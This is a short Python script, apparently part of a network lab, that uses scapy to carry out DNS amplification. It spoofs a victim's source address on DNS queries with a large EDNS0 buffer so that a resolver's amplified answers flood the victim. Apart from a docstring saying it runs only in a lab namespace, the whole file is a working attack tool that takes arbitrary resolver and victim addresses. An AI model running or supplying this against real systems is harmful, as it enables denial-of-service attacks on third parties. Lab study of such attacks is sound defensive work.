#!/usr/bin/python3
"""DNS amplification with scapy: COUNT queries whose source address is spoofed to VICTIM, sent to
the lab resolver, so the (larger) answers go to the victim.

  dns_amp.py RESOLVER VICTIM ZONE QTYPE COUNT INTERVAL_S
Only ever called inside the lab's attacker namespace with lab addresses.
"""
import sys

from scapy.all import DNS, DNSQR, DNSRROPT, IP, UDP, RandShort, conf, send

conf.verb = 0


def main():
    resolver, victim, zone, qtype = sys.argv[1:5]
    count, interval = int(sys.argv[5]), float(sys.argv[6])
    # EDNS0 with a 4096-byte buffer, as amplification tools send: without it the answer is cut to
    # 512 bytes with TC set and there is no amplification.
    dns = DNS(rd=1, qd=DNSQR(qname=zone, qtype=qtype), ar=DNSRROPT(rclass=4096))
    pkt = IP(src=victim, dst=resolver) / UDP(sport=RandShort(), dport=53) / dns
    send(pkt, count=count, inter=interval)


if __name__ == '__main__':
    main()
